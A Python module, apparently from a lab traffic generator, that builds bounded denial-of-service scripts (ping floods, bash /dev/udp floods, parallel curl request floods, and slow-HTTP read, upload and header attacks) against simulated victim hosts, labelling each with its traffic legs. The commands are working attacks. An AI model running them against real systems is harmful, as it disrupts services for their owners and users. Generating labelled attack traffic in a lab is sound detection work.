# SPDX-License-Identifier: Apache-2.0
"""Floods by ping, bash, curl and the program `press`, within bounds; slow requests by curl and `press`."""

from __future__ import annotations

from random import Random
from shlex import quote

from lab.scenarios.attack.flood import GENTLE_PACKETS, MOST_PACKETS
from lab.scenarios.attack.targets import any_victim, attackers, ip_version, victim_with
from lab.scenarios.scenario import ICMP4, ICMP6, TCP, UDP, Attack, AttackDraft, Leg, Scene


def ping_flood(scene: Scene, chance: Random) -> AttackDraft:
    """By ping, from one of the attacker's addresses or from several at once."""
    victim, version = any_victim(scene, chance), ip_version(chance)
    most = GENTLE_PACKETS if scene.gentle else MOST_PACKETS
    sources = (
        scene.network.aliases4(scene.host) if version == 4 and scene.host.attacker and chance.random() < 0.4 else []
    )
    chosen = chance.sample(sources, min(len(sources), chance.randint(2, 6)))
    speakers = [f"-I {a}" for a in chosen] or [""]
    chosen = chosen or [scene.address(scene.host, version)]
    interval, count = chance.choice((0.002, 0.005, 0.01, 0.03)), chance.randint(most // 6, most) // len(chosen)
    seconds = chance.randint(12, 30)
    count = min(count, int(seconds / interval))
    size = chance.choice((8, 56, 500, 1200, 1300))
    script = (
        "\n".join(
            f"ping -n -q -i {interval} -c {count} -s {size} {speaker} -w {seconds} {scene.address(victim, version)} &"
            for speaker in speakers
        )
        + "\nwait"
    )
    legs = tuple(Leg(a, scene.address(victim, version), ICMP6 if version == 6 else ICMP4) for a in chosen)
    return AttackDraft(
        "flood", "ping", f"icmp; sources={len(chosen)}; interval={interval}; size={size}", script, seconds + 5, legs
    )


def shell_flood(scene: Scene, chance: Random) -> AttackDraft:
    """A stream of datagrams by bash, or many short ones to any port."""
    victim, version = any_victim(scene, chance), ip_version(chance)
    where = scene.address(victim, version)
    if chance.random() < 0.5:
        port, seconds = chance.choice((53, 123, 514, chance.randint(1024, 60000))), chance.randint(8, 20)
        size, pause = chance.choice((64, 512, 1200)), chance.choice((0.002, 0.005, 0.02))
        count = min(6000, int(seconds / (pause + 0.002)))
        # Not by nc, which ends at the first unreachable that comes back.
        script = (
            f"exec 3> /dev/udp/{where}/{port}; for n in $(seq {count}); do printf '%{size}s' x >&3; sleep {pause}; done"
        )
        return AttackDraft(
            "flood",
            "bash",
            f"udp stream; size={size}",
            script,
            seconds + 25,
            (scene.leg(victim, version, UDP, port), scene.icmp_leg(victim, version)),
        )
    count, width = chance.randint(300, 1200), chance.choice((4, 10))
    script = f"shuf -i 1024-60000 -n {count} | xargs -P {width} -n 1 bash -c 'echo {'x' * chance.choice((1, 60, 600))} > /dev/udp/{where}/$0'"
    return AttackDraft(
        "flood",
        "bash",
        f"udp to {count} ports; at once={width}",
        script,
        40,
        (scene.leg(victim, version, UDP), scene.icmp_leg(victim, version)),
    )


def press_flood(scene: Scene, chance: Random) -> AttackDraft | None:
    way = chance.choice(("hold", "hold", "connect", "get", "post", "udp"))
    victim = (
        any_victim(scene, chance)
        if way == "udp"
        else victim_with(scene, chance, "webapp" if way in ("get", "post") else "nginx")
    )
    if victim is None:
        return None
    version, seconds = ip_version(chance), chance.randint(12, 45)
    own, source = attackers(scene, version, chance)
    address = scene.address(victim, version)
    if way == "udp":
        port = chance.choice((0, 0, 53, 123, chance.randint(1024, 60000)))
        words = f"udp {address} {port} --size {chance.choice((1, 100, 700, 1300))} {chance.choice(('', '--same'))} --burst {chance.choice((1, 20, 100))} --threads {chance.choice((1, 8))} --pause {chance.choice((0.0008, 0.003, 0.01))} --count {chance.randint(1200, 6000)}"
        legs: tuple[Leg, ...] = (
            Leg(own, address, UDP, port or None),
            Leg(own, address, ICMP6 if version == 6 else ICMP4),
        )
    else:
        port = (
            chance.choice((scene.network.web_port, scene.network.tls_port))
            if way in ("hold", "connect")
            else scene.network.web_port
        )
        opened = chance.choice((50, 150, 500)) if way == "hold" else chance.choice((10, 50, 200))
        count = opened if way == "hold" else chance.randint(200, 2500)
        words = (
            f"{way} {address} {port} --path {chance.choice(('/', '/app/search', '/o/3.bin', '/app/item'))} --size {chance.choice((200, 1300, 8000))} --open {opened} --count {count} "
            f"--per-connection {chance.choice((1, 1, 20, 200))} --pause {chance.choice((0, 0.004, 0.03))} --jitter 0.5 --resets {chance.choice((0, 0.5, 1))}"
        )
        legs = (Leg(own, address, TCP, port),)
    technique = f"{way}; port={port}"
    return AttackDraft(
        "flood",
        "press",
        technique,
        scene.program("press", chance, words, source, f"--seconds {seconds}"),
        seconds + 5,
        legs,
    )


def curl_flood(scene: Scene, chance: Random) -> AttackDraft | None:
    """Pages or posts by curls side by side: a process for each request, or each with many down one connection."""
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls = ip_version(chance), chance.random() < 0.4
    port = scene.network.tls_port if tls else scene.network.web_port
    path = chance.choice(("/", "/app/search?q=$0", "/app/item?id=$0", "/d/300.iso"))
    each, width = chance.choice((1, 1, 20)), chance.choice((8, 20, 40))
    count = chance.randint(60, 150) if scene.gentle else chance.randint(150, 500)
    body = chance.choice(("", "", f"-d @<(head -c {chance.choice((300, 4000))} /dev/zero | tr '\\0' x)"))
    url = scene.url(victim, tls, path, version)
    urls = " ".join([f'-o /dev/null "{url}"'] * each)
    script = f"seq {max(width, count // each)} | xargs -P {width} -n 1 bash -c {quote(f'curl -g -k -s --max-time 10 {body} {urls}')}"
    return AttackDraft(
        "flood",
        "curl",
        f"processes; n={count}; each={each}; at once={width}",
        script,
        45,
        (scene.leg(victim, version, TCP, port),),
    )


def slow_curl(scene: Scene, chance: Random) -> AttackDraft | None:
    """Many curls that read, or send, as slowly as they are told."""
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls = ip_version(chance), chance.random() < 0.3
    port, seconds = scene.network.tls_port if tls else scene.network.web_port, chance.randint(25, 55)
    count, gap = chance.randint(20, 90), chance.choice((0.02, 0.1, 0.4))
    if chance.random() < 0.5:
        one = f"curl -g -k -s -o /dev/null --limit-rate {chance.choice((200, 1000, 3000))} '{scene.url(victim, tls, '/d/900.iso', version)}'"
    else:
        body = f"(for n in $(seq 60); do head -c {chance.choice((1, 10, 60))} /dev/zero; sleep {chance.choice((0.7, 2, 5))}; done)"
        one = f"{body} | curl -g -k -s -o /dev/null {chance.choice(('', '-H Expect:'))} -T - '{scene.url(victim, tls, '/app/upload', version)}'"
    script = f"for n in $(seq {count}); do ({one}) & sleep {gap}; done; sleep {seconds}; kill $(jobs -p)"
    return AttackDraft(
        "slow_http",
        "curl",
        f"connections={count}; gap={gap}",
        script,
        seconds + int(count * gap) + 5,
        (scene.leg(victim, version, TCP, port),),
    )


def slow_press(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "nginx")
    if victim is None:
        return None
    version, tls, seconds = ip_version(chance), chance.random() < 0.3, chance.randint(25, 70)
    own, source = attackers(scene, version, chance)
    way = chance.choice(("slow-headers", "slow-body", "slow-read"))
    port = scene.network.tls_port if tls else scene.network.web_port
    path = {"slow-read": "/d/4000.iso", "slow-body": "/app/login"}.get(way, chance.choice(("/", "/app/login")))
    words = (
        f"{way} {scene.address(victim, version)} {port} {'--tls' if tls else ''} --path {path} --open {chance.randint(15, 140)} --rate {chance.choice((3, 15, 60, 200))} "
        f"--pause {chance.choice((0.5, 1.5, 4, 10))} --jitter {chance.choice((0, 0.6))} --size {chance.choice((2, 20))} --seconds {seconds} {source}"
    )
    return AttackDraft(
        "slow_http",
        "press",
        way,
        scene.program("press", chance, words),
        seconds + 5,
        (Leg(own, scene.address(victim, version), TCP, port),),
    )


ATTACKS = (
    Attack("ping-flood", ping_flood, weight=3, group="flood"),
    Attack("shell-flood", shell_flood, weight=2, group="flood"),
    Attack("press-flood", press_flood, weight=5, group="flood"),
    Attack("curl-flood", curl_flood, weight=2, group="flood"),
    Attack("curl-slow", slow_curl, weight=2, group="slow_http"),
    Attack("press-slow", slow_press, weight=4, group="slow_http"),
)
